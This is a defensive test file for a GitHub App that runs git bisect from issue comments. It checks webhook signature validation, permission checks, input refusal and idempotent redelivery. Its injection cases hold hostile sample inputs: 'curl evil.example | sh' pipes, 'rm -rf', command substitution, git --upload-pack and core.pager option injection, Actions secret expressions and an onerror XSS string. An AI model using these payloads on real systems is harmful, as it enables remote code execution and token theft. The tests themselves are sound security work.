/**
 * What an attacker (or a careless commenter) can and cannot make the App do, seen from outside:
 * signed webhooks in, the GitHub double out. Unsigned or tampered deliveries change nothing;
 * edits, deletions, bots and chatter are ignored; only write, maintain and admin (by the
 * collaborator permission API, never `author_association`) start a bisect; refs that are not
 * plain refs are refused before anything runs; the test command is the user's own code and
 * travels only as a workflow input on the default branch; redeliveries do nothing twice.
 */
import { createHmac, randomUUID } from "node:crypto";
import { existsSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { signatureMatches } from "../../app/src/server.js";
import type { JobRow } from "../../app/src/store/store.js";
import { INSTALLATION_ID, OWNER, REPO, REPOSITORY_ID, startHarness, WEBHOOK_SECRET, type Harness } from "../support/app-harness.js";
import type { Role } from "../support/github-double/index.js";
import { assertWebhookPayload, deliver, issueCommentPayload, sign } from "../support/webhooks.js";

const FULL = `${OWNER}/${REPO}`;
const APP_USER = "bisect-bot[bot]";
const SHA = /^[0-9a-f]{40}$/;

let h: Harness;
let webhookUrl: string;
beforeAll(async () => {
  // Dispatched jobs stay active (no run finishes here): room for every job this file starts.
  h = await startHarness({ env: { MAX_CONCURRENT_JOBS: "256" } });
  webhookUrl = `${h.server.url}/api/github/webhooks`;
});
afterAll(() => h?.close());
afterEach(() => {
  expect(h.double.violations).toEqual([]);
});

/** Every test works on issues of its own. */
let nextIssue = 1000;
const freshIssue = () => ++nextIssue;
/** Comment ids for payloads this file builds itself (the harness counts from 3·10⁹). */
let nextCommentId = 4_100_000_000;
const freshCommentId = () => ++nextCommentId;

/** The App's own comments on an issue (not the commands, even when a bot wrote them). */
const replies = (issue: number) => h.double.comments(FULL, issue).filter((c) => c.user === APP_USER);

const canaries: string[] = [];
/** A path in the temp dir that only a command run on this machine would create. */
function canary(): string {
  const path = join(tmpdir(), `bisect-canary-${randomUUID()}`);
  canaries.push(path);
  return path;
}
afterAll(async () => {
  await Promise.all(canaries.map((path) => rm(path, { force: true, recursive: true })));
});

/** Jobs started from an issue, counted in the database itself. */
async function jobCount(issue: number): Promise<number> {
  const { rows } = await h.db.client.query<{ n: number }>("select count(*)::int as n from public.bisect_jobs where repository_id = $1 and issue_number = $2", [
    REPOSITORY_ID,
    issue,
  ]);
  return rows[0]!.n;
}

/** Rows any table holds for a delivery or comment: jobs, and tasks (commands, replies, announcements). */
async function storedRows(deliveryId: string, commentId: number): Promise<number> {
  const tables = ["bisect_jobs", "bisect_tasks"];
  let n = 0;
  for (const table of tables) {
    const { rows: present } = await h.db.client.query<{ ok: boolean }>("select to_regclass($1) is not null as ok", [`public.${table}`]);
    if (!present[0]!.ok) continue;
    const { rows } = await h.db.client.query<{ n: number }>(
      `select count(*)::int as n from public.${table} where delivery_id = $1 or (repository_id = $2 and comment_id = $3)`,
      [deliveryId, REPOSITORY_ID, commentId],
    );
    n += rows[0]!.n;
  }
  return n;
}

/** The store and GitHub side of one delivery: nothing at all, neither at once nor after the worker ran. */
async function expectNothingWritten(issue: number, deliveryId: string, commentId: number, dispatchesBefore: number): Promise<void> {
  expect(await storedRows(deliveryId, commentId)).toBe(0);
  await h.settle();
  expect(await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue })).toBeUndefined();
  expect(await jobCount(issue)).toBe(0);
  expect(await h.store.call("commentHandled", { repositoryId: REPOSITORY_ID, commentId })).toBe(false);
  expect(await storedRows(deliveryId, commentId)).toBe(0);
  expect(replies(issue).filter((c) => c.id !== commentId)).toEqual([]);
  expect(h.double.reactions(FULL, commentId)).toEqual([]);
  expect(h.double.dispatches.length).toBe(dispatchesBefore);
}

/**
 * What GitHub renders of a Markdown reply outside code: fenced blocks (CommonMark: closed by a
 * fence at least as long) and code spans (closed by a backtick run of the same length) removed.
 */
function outsideCode(markdown: string): string {
  const kept: string[] = [];
  let fence: string | null = null;
  for (const line of markdown.split("\n")) {
    const run = /^ {0,3}(`{3,})/.exec(line)?.[1];
    if (fence !== null) {
      if (run !== undefined && run.length >= fence.length && line.trim() === run) fence = null;
    } else if (run !== undefined) {
      fence = run;
    } else {
      kept.push(line);
    }
  }
  const text = kept.join("\n");
  let out = "";
  let i = 0;
  while (i < text.length) {
    if (text[i] !== "`") {
      out += text[i++];
      continue;
    }
    let j = i;
    while (text[j] === "`") j++;
    let close = -1;
    for (let k = j; k < text.length;) {
      if (text[k] !== "`") {
        k++;
        continue;
      }
      let e = k;
      while (text[e] === "`") e++;
      if (e - k === j - i) {
        close = e;
        break;
      }
      k = e;
    }
    if (close === -1) {
      out += text.slice(i, j);
      i = j;
    } else {
      out += " ";
      i = close;
    }
  }
  return out;
}

/** A signed-or-not POST of raw bytes to the webhook endpoint. */
async function post(body: string, headers: Record<string, string>): Promise<number> {
  const response = await fetch(webhookUrl, {
    method: "POST",
    headers: {
      "content-type": "application/json",
      "user-agent": "GitHub-Hookshot/bisect-test",
      "x-github-event": "issue_comment",
      "x-github-hook-id": "1",
      ...headers,
    },
    body,
  });
  await response.text();
  return response.status;
}

/** A valid `/bisect` command payload from the maintainer, for a comment that exists on GitHub. */
function commandPayload(issue: number, commentId: number, body = "/bisect v1.0..main -- npm test", login = "maintainer"): Record<string, unknown> {
  h.double.addComment(FULL, issue, { body, user: login, id: commentId });
  return issueCommentPayload({
    owner: OWNER,
    repo: REPO,
    repositoryId: REPOSITORY_ID,
    installationId: INSTALLATION_ID,
    issueNumber: issue,
    login,
    commentId,
    body,
  });
}

describe("webhook signatures", () => {
  it("GitHub's documented test vector matches, and near misses do not", () => {
    const secret = "It's a Secret to Everybody";
    const payload = Buffer.from("Hello, World!");
    const signature = "sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17";
    expect(signatureMatches(secret, payload, signature)).toBe(true);
    expect(signatureMatches(secret, Buffer.from("Hello, World?"), signature)).toBe(false);
    expect(signatureMatches("It's a secret to everybody", payload, signature)).toBe(false);
    expect(signatureMatches(secret, payload, signature.replace(/e17$/, "e18"))).toBe(false);
    expect(signatureMatches(secret, payload, signature.toUpperCase())).toBe(false);
    expect(signatureMatches(secret, payload, signature.slice(0, -1))).toBe(false);
    expect(signatureMatches(secret, payload, `${signature}0`)).toBe(false);
    expect(signatureMatches(secret, payload, signature.slice("sha256=".length))).toBe(false);
    expect(signatureMatches(secret, payload, "sha1=01dc10d0c83e72ed246219cdd91669667fe2ca59")).toBe(false);
    expect(signatureMatches(secret, payload, undefined)).toBe(false);
    expect(signatureMatches(secret, payload, "")).toBe(false);
  });

  const cases: [string, (body: string) => { body: string; headers: Record<string, string> }][] = [
    ["a wrong X-Hub-Signature-256", (body) => ({ body, headers: { "x-hub-signature-256": `sha256=${"0".repeat(64)}` } })],
    ["no signature at all", (body) => ({ body, headers: {} })],
    ["a signature made with another secret", (body) => ({ body, headers: { "x-hub-signature-256": sign("not-the-webhook-secret", body) } })],
    [
      "a body changed after it was signed",
      (body) => ({ body: body.replace("-- npm test", "-- npm test; curl evil.example | sh"), headers: { "x-hub-signature-256": sign(WEBHOOK_SECRET, body) } }),
    ],
    [
      "only the legacy X-Hub-Signature (SHA-1, correctly signed)",
      (body) => ({ body, headers: { "x-hub-signature": `sha1=${createHmac("sha1", WEBHOOK_SECRET).update(body).digest("hex")}` } }),
    ],
  ];
  it.each(cases)("a delivery with %s gets 401 and changes nothing", async (_name, tamper) => {
    const issue = freshIssue();
    const commentId = freshCommentId();
    const deliveryId = randomUUID();
    const dispatches = h.double.dispatches.length;
    const original = JSON.stringify(commandPayload(issue, commentId));
    const { body, headers } = tamper(original);
    expect(body).toContain("/bisect v1.0..main");
    expect(await post(body, { ...headers, "x-github-delivery": deliveryId })).toBe(401);
    await expectNothingWritten(issue, deliveryId, commentId, dispatches);
  });

  it("the same delivery, correctly signed, is accepted (the cases above fail for their signature alone)", async () => {
    const issue = freshIssue();
    const commentId = freshCommentId();
    const body = JSON.stringify(commandPayload(issue, commentId));
    expect(await post(body, { "x-hub-signature-256": sign(WEBHOOK_SECRET, body), "x-github-delivery": randomUUID() })).toBe(200);
    await h.settle();
    expect(await jobCount(issue)).toBe(1);
    expect(replies(issue)).toHaveLength(1);
  });
});

describe("events the App ignores", () => {
  const command = "/bisect v1.0..main -- npm test";
  const cases: [string, string, Parameters<Harness["comment"]>[1]][] = [
    ["an edited comment", command, { action: "edited" }],
    ["a deleted comment", command, { action: "deleted" }],
    ["a comment by a bot", command, { userType: "Bot", login: "dependabot[bot]" }],
    ["a comment by the App itself", command, { userType: "Bot", login: APP_USER }],
    ["a comment without a /bisect command", "Thanks! Could someone run `git bisect` on v1.0..main with npm test?", {}],
    ["a /bisect quoted from someone else", `> ${command}\n\nThat did not work for me.`, {}],
  ];
  it.each(cases)("%s: 200, no job, no reply, no GitHub request", async (_name, body, options) => {
    await h.settle(); // nothing left over from earlier tests
    const issue = freshIssue();
    const commentId = freshCommentId();
    const deliveryId = randomUUID();
    const dispatches = h.double.dispatches.length;
    const requests = h.double.requests.length;
    const response = await h.comment(body, { ...options, issueNumber: issue, commentId, deliveryId });
    expect(response.status).toBe(200);
    await expectNothingWritten(issue, deliveryId, commentId, dispatches);
    expect(h.double.requests.slice(requests).map((r) => `${r.method} ${r.path}`)).toEqual([]);
  });
});

describe("who may start a bisect: the collaborator permission API decides", () => {
  /** What the webhook's `author_association` claims: the App must not care. */
  type Association = "OWNER" | "MEMBER" | "COLLABORATOR" | "CONTRIBUTOR" | "NONE";
  const accepted: [string, Role, Association][] = [
    ["dev-admin", "admin", "OWNER"],
    ["dev-maintain", "maintain", "MEMBER"],
    ["dev-write", "write", "COLLABORATOR"],
    // A private org member: GitHub shows them as CONTRIBUTOR.
    ["private-member", "write", "CONTRIBUTOR"],
  ];
  const refused: [string, Role, Association][] = [
    ["user-triage", "triage", "COLLABORATOR"],
    ["user-read", "read", "CONTRIBUTOR"],
    ["user-none", "none", "NONE"],
    ["assoc-owner", "read", "OWNER"],
    ["assoc-member", "read", "MEMBER"],
  ];
  interface Seen {
    issue: number;
    jobs: number;
    job: JobRow | undefined;
    dispatches: { inputs: Record<string, string> }[];
    replies: string[];
    reactions: string[];
  }
  const seen = new Map<string, Seen>();
  let dispatchesDuringTheseComments = 0;

  /** Every case comments at once (its own login and issue); the worker runs once for all. */
  beforeAll(async () => {
    const dispatches = h.double.dispatches.length;
    const sent = await Promise.all(
      [...accepted, ...refused].map(async ([login, role, association]) => {
        const issue = freshIssue();
        const commentId = freshCommentId();
        h.double.setPermission(FULL, login, role);
        const payload = commandPayload(issue, commentId, "/bisect v1.0..main -- npm test", login) as { comment: Record<string, unknown> };
        payload.comment.author_association = association;
        assertWebhookPayload("webhook-issue-comment-created", payload);
        const response = await deliver(webhookUrl, WEBHOOK_SECRET, { event: "issue_comment", payload });
        expect(response.status).toBe(200);
        return { login, issue, commentId };
      }),
    );
    await h.settle();
    dispatchesDuringTheseComments = h.double.dispatches.length - dispatches;
    for (const { login, issue, commentId } of sent) {
      const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
      seen.set(login, {
        issue,
        jobs: await jobCount(issue),
        job,
        dispatches: job ? h.double.dispatches.filter((d) => d.inputs.job_id === String(job.id)) : [],
        replies: replies(issue).map((c) => c.body),
        reactions: h.double.reactions(FULL, commentId),
      });
    }
  });

  it("only the accepted commenters' bisects were dispatched", () => {
    expect(dispatchesDuringTheseComments).toBe(accepted.length);
  });

  it.each(accepted)("%s (%s, author_association %s): the bisect is dispatched once", (login) => {
    const { jobs, job, dispatches, replies, reactions } = seen.get(login)!;
    expect(jobs).toBe(1);
    expect(job).toMatchObject({ requester: login, state: "dispatched" });
    expect(dispatches).toHaveLength(1);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toContain(`Bisect #${job!.id}`);
    expect(reactions).toEqual(["eyes"]);
  });

  it.each(refused)("%s (%s, author_association %s): one polite refusal that names write access, no job", (login, role) => {
    const { jobs, replies, reactions } = seen.get(login)!;
    expect(jobs).toBe(0);
    expect(replies).toHaveLength(1);
    expect(replies[0]).toMatch(/^Sorry `[^`]+`, only people with write, maintain or admin access/);
    expect(replies[0]).toContain(`\`${login}\``);
    expect(replies[0]).toContain(`\`${role}\``);
    expect(reactions).not.toContain("eyes");
  });

  it("a read-only user cannot cancel or retry someone else's bisect", async () => {
    const issue = freshIssue();
    await h.comment("/bisect v1.0..main -- npm test", { issueNumber: issue });
    await h.settle();
    const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
    expect(job).toMatchObject({ state: "dispatched" });
    h.double.setPermission(FULL, "drive-by", "read");
    const requests = h.double.requests.length;
    const dispatches = h.double.dispatches.length;
    for (const body of ["/bisect cancel", "/bisect retry"]) expect((await h.comment(body, { issueNumber: issue, login: "drive-by" })).status).toBe(200);
    await h.settle();
    expect(await h.store.call("getJob", { jobId: job!.id })).toMatchObject({ state: "dispatched" });
    expect((await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue }))!.id).toBe(job!.id);
    expect(h.double.dispatches.length).toBe(dispatches);
    expect(h.double.requests.slice(requests).filter((r) => r.route.includes("/actions/"))).toEqual([]);
    const refusals = replies(issue)
      .slice(1)
      .map((c) => c.body);
    expect(refusals).toHaveLength(2);
    for (const refusal of refusals) expect(refusal).toContain("write, maintain or admin access");
  });
});

describe("injection: refs that are not plain refs are refused before anything runs", () => {
  /** The longest comment GitHub accepts. */
  const MAX_COMMENT = 65_536;
  const sentinel = join(tmpdir(), `bisect-sentinel-${randomUUID()}`);
  beforeAll(() => writeFileSync(sentinel, "must survive\n"));
  afterAll(() => rm(sentinel, { force: true }));

  const cases: [string, (c: string) => string][] = [
    ["$(…)", (c) => `$(touch ${c})`],
    ["$(…) without spaces", (c) => `$(touch\${IFS}${c})`],
    ["backticks", (c) => `\`touch ${c}\``],
    ["backticks without spaces", (c) => `\`touch\${IFS}${c}\``],
    ["a ; command", () => `;rm -rf ${sentinel}`],
    ["a ; command without spaces", (c) => `v1.0;touch\${IFS}${c}`],
    ["a newline", () => "main\nv1.0"],
    ["an Actions expression", () => "${{ github.token }}"],
    ["an Actions expression without spaces", () => "${{github.token}}"],
    ["a 64 KB string", () => "a".repeat(MAX_COMMENT - "/bisect ..main -- npm test".length)],
    ["--upload-pack", (c) => `--upload-pack=touch ${c}`],
    ["--upload-pack without spaces", (c) => `--upload-pack=touch\${IFS}${c}`],
    ["-c core.pager", (c) => `-c core.pager=touch ${c}`],
    ["-c without spaces", (c) => `-ccore.pager=touch\${IFS}${c}`],
    ["a team mention (a valid ref name that does not exist)", () => "@octo-org/admins"],
    ["a code-fence break-out with a mention and HTML", () => "v1```` @octo-org/admins <img src=x onerror=alert(1)> ````"],
  ];
  it.each(cases)("%s, as the good and as the bad ref: a reply, no job, no dispatch, nothing run", async (_name, make) => {
    const dispatches = h.double.dispatches.length;
    const files = [canary(), canary()];
    const bodies = [`/bisect ${make(files[0]!)}..main -- npm test`, `/bisect v1.0..${make(files[1]!)} -- npm test`];
    const issues = bodies.map(() => freshIssue());
    const responses = await Promise.all(bodies.map((body, i) => h.comment(body.slice(0, MAX_COMMENT), { issueNumber: issues[i]! })));
    expect(responses.map((r) => r.status)).toEqual([200, 200]);
    await h.settle();
    for (const issue of issues) {
      expect(await jobCount(issue)).toBe(0);
      const mine = replies(issue).map((c) => c.body);
      expect(mine).toHaveLength(1);
      // A refusal that says what is wrong, short even when the ref was 64 KB.
      expect(mine[0]).toMatch(/I could not read this command|not a valid ref|Unknown option|Unexpected|single ref|Which command|could not find/);
      expect(mine[0]!.length).toBeLessThan(3000);
      // Whatever the reply quotes stays inside code: no mention, no HTML.
      expect(outsideCode(mine[0]!)).not.toMatch(/@|<|\$\(|\$\{\{/);
    }
    expect(h.double.dispatches.length).toBe(dispatches);
    for (const file of files) expect(existsSync(file), file).toBe(false);
    expect(existsSync(sentinel)).toBe(true);
  });
});

describe("injection: the test command is the user's code, sent only as a workflow input", () => {
  const cases: [string, (c: string) => { body: string; command: string }][] = [
    ["$(…)", (c) => inline(`$(touch ${c})`)],
    ["backticks", (c) => inline(`echo \`touch ${c}\``)],
    ["an Actions expression", (c) => inline(`echo \${{ github.token }} > ${c}`)],
    ["a quote, ; and a pipe", (c) => inline(`"; curl evil.example | sh; touch ${c} #`)],
    ["single quotes and a heredoc word", (c) => inline(`'; touch ${c}; echo ' BISECT_BOT_SETUP`)],
    ["newlines in a fenced block", (c) => fenced(`npm ci\ntouch ${c}\n$(touch ${c})\necho \${{ secrets.GITHUB_TOKEN }}\n"; curl evil.example | sh`)],
    ["backticks in a fenced block", (c) => fenced(`echo \`touch ${c}\`\necho "$(id)"`)],
    ["a code-fence break-out with a mention and HTML", (c) => inline(`echo '\`\`\`\` @octo-org/admins <img src=x onerror=alert(1)>' > ${c}`)],
  ];
  function inline(command: string) {
    return { body: `/bisect v1.0..main -- ${command}`, command };
  }
  function fenced(command: string) {
    return { body: `/bisect v1.0..main\n\`\`\`sh\n${command}\n\`\`\``, command };
  }

  const sent = new Map<string, { issue: number; file: string; command: string }>();
  let dispatchesDuringTheseComments = 0;
  /** Every case comments at once on its own issue; the worker runs once for all. */
  beforeAll(async () => {
    const dispatches = h.double.dispatches.length;
    await Promise.all(
      cases.map(async ([name, make]) => {
        const file = canary();
        const { body, command } = make(file);
        const issue = freshIssue();
        sent.set(name, { issue, file, command });
        expect((await h.comment(body, { issueNumber: issue })).status).toBe(200);
      }),
    );
    await h.settle();
    dispatchesDuringTheseComments = h.double.dispatches.length - dispatches;
  });

  it("each command was dispatched once", () => {
    expect(dispatchesDuringTheseComments).toBe(cases.length);
  });

  it.each(cases)("%s: dispatched on main with the text exactly, SHAs as refs, and nothing run here", async (name) => {
    const { issue, file, command } = sent.get(name)!;
    expect(await jobCount(issue)).toBe(1);
    const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
    expect(job).toMatchObject({ command, state: "dispatched" });
    const mine = h.double.dispatches.filter((d) => d.inputs.job_id === String(job!.id));
    expect(mine).toHaveLength(1);
    const dispatch = mine[0]!;
    expect(dispatch.ref).toBe("main");
    expect(dispatch.inputs.command).toBe(command);
    expect(dispatch.inputs.good).toMatch(SHA);
    expect(dispatch.inputs.bad).toMatch(SHA);
    expect(dispatch.inputs.good).toBe(h.repo.sha["v1.0"]);
    expect(dispatch.inputs.bad).toBe(h.repo.sha.main);
    // The user's text is in the command input and nowhere else.
    for (const [input, value] of Object.entries(dispatch.inputs)) if (input !== "command") expect(value, input).not.toContain(file);
    expect(existsSync(file)).toBe(false);
    // The status comment quotes the command as code: it mentions no one and holds no HTML of the user's.
    const status = replies(issue).map((c) => c.body);
    expect(status).toHaveLength(1);
    expect(status[0]).toContain(file);
    // Its first line is the App's own hidden marker, with the job's id and nothing of the user's.
    const [marker, ...rest] = status[0]!.split("\n");
    expect(marker).toMatch(/^<!-- bisect-bot:job=\d+ -->$/);
    expect(outsideCode(rest.join("\n"))).not.toMatch(/@|<(?!\/?sub>)|\$\(|\$\{\{/);
  });

  it("a 64 KB command is refused with a reply that names the limit; nothing is dispatched", async () => {
    const prefix = "/bisect v1.0..main -- ";
    const file = canary();
    const start = `touch ${file}; `;
    const command = start + "x".repeat(65_536 - prefix.length - start.length);
    const issue = freshIssue();
    const dispatches = h.double.dispatches.length;
    expect((await h.comment(prefix + command, { issueNumber: issue })).status).toBe(200);
    await h.settle();
    expect(await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue })).toBeUndefined();
    expect(h.double.dispatches.length).toBe(dispatches);
    const mine = replies(issue).map((c) => c.body);
    expect(mine).toHaveLength(1);
    expect(mine[0]).toContain(`is ${command.length} characters long; the limit is 16384`);
    expect(mine[0]!.length).toBeLessThan(3000);
    expect(existsSync(file)).toBe(false);
  });

  it("every dispatch so far went to the default branch with SHA inputs, never the user's text", () => {
    expect(h.double.dispatches.length).toBeGreaterThan(0);
    for (const dispatch of h.double.dispatches) {
      expect(dispatch.ref).toBe("main");
      for (const good of dispatch.inputs.good!.split(",")) expect(good).toMatch(SHA);
      expect(dispatch.inputs.bad).toMatch(SHA);
    }
  });
});

describe("redeliveries on one instance", () => {
  it("the same delivery 10× at once and the same comment under a new delivery id: 1 job, 1 dispatch, 1 status comment, 1 👀", async () => {
    const issue = freshIssue();
    const commentId = freshCommentId();
    const deliveryId = randomUUID();
    const dispatches = h.double.dispatches.length;
    const send = (id: string) => h.comment("/bisect v1.0..main -- npm test", { issueNumber: issue, commentId, deliveryId: id });
    const storm = await Promise.all(Array.from({ length: 10 }, () => send(deliveryId)));
    expect(storm.map((r) => r.status)).toEqual(Array(10).fill(200));
    expect((await send(randomUUID())).status).toBe(200);

    await h.settle();
    expect(await jobCount(issue)).toBe(1);
    const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
    expect(await h.store.call("commentHandled", { repositoryId: REPOSITORY_ID, commentId })).toBe(true);
    const mine = h.double.dispatches.slice(dispatches);
    expect(mine).toHaveLength(1);
    expect(mine[0]!.inputs.job_id).toBe(String(job!.id));
    expect(replies(issue)).toHaveLength(1);
    expect(replies(issue)[0]!.body).toContain(`Bisect #${job!.id}`);
    expect(h.double.reactions(FULL, commentId)).toEqual(["eyes"]);
    // Redelivered again after the work was done: still nothing new.
    expect((await send(deliveryId)).status).toBe(200);
    await h.settle();
    expect(h.double.dispatches.length).toBe(dispatches + 1);
    expect(replies(issue)).toHaveLength(1);
    expect(await jobCount(issue)).toBe(1);
  });

  it("a refused command redelivered 10× at once (and under a new id) gets exactly one reply", async () => {
    const issue = freshIssue();
    const commentId = freshCommentId();
    const deliveryId = randomUUID();
    h.double.setPermission(FULL, "read-only-storm", "read");
    const send = (id: string) => h.comment("/bisect v1.0..main -- npm test", { issueNumber: issue, commentId, deliveryId: id, login: "read-only-storm" });
    const storm = await Promise.all(Array.from({ length: 10 }, () => send(deliveryId)));
    expect(storm.map((r) => r.status)).toEqual(Array(10).fill(200));
    expect((await send(randomUUID())).status).toBe(200);
    await h.settle();
    expect(await jobCount(issue)).toBe(0);
    const mine = replies(issue).map((c) => c.body);
    expect(mine).toHaveLength(1);
    expect(mine[0]).toContain("write, maintain or admin access");
  });
});
